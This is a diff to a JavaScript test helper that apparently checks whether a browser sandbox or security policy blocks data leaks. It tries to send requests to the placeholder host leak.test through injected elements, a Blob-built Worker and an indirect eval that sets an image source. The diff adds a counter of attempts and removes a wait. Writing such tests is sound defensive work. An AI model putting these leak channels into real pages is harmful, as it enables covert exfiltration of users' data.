@@ -5,7 +5,11 @@
  */
 globalThis.tryToLeak = async () => {
   const to = (way) => `http://leak.test/${way}`;
-  const quietly = async (action) => { try { await action(); } catch { /* refused, as it should be */ } };
+  globalThis.tried = 0;
+  const quietly = async (action) => {
+    try { await action(); } catch { /* refused, as it should be */ }
+    globalThis.tried += 1;
+  };
   const put = (name, attributes) => {
     const element = Object.assign(document.createElement(name), attributes);
     document.body.appendChild(element);
@@ -47,5 +51,4 @@ globalThis.tryToLeak = async () => {
     new Worker(URL.createObjectURL(new Blob([source], { type: 'text/javascript' })));
   });
   await quietly(() => { (0, eval)(`new Image().src = '${to('eval')}'`); });
-  await new Promise((resolve) => setTimeout(resolve, 1000));
 };
